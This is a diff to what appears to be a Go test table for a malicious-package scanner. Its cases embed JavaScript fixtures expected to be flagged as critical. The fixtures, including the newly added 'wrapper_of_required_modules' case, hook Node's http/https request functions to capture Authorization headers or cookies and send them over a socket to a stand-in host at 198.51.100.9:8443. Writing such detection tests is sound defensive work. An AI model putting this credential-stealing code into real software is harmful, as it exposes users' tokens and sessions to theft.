@@ -34,6 +34,10 @@ require.cache[file] = Object.assign(new Module(file), { loaded: true, exports: {
 function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
 function wrap(mod) { const orig = mod.request; mod.request = function (...args) { const h = (args[1] || {}).headers || {}; const a = h.authorization || h.Cookie; if (a) ship(a); return orig.apply(this, args) } }
 wrap(http); wrap(https);`}, finding.SeverityCritical},
+		{"wrapper_of_required_modules", map[string]string{"index.js": `const net = require("net");
+function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
+function wrap(mod) { const orig = mod.request; mod.request = function (...args) { const h = (args[1] || {}).headers || {}; const a = h.authorization || h.Cookie; if (a) ship(a); return orig.apply(this, args) } }
+wrap(require("https"));`}, finding.SeverityCritical},
 		{"wrapper_counting", map[string]string{"index.js": `const http = require("http"), https = require("https"), net = require("net");
 function ship(l) { net.connect({ host: "198.51.100.9", port: 8443 }).end(l) }
 function wrap(mod) { const orig = mod.request; let n = 0; mod.request = function (...args) { n++; ship(String(n)); return orig.apply(this, args) } }
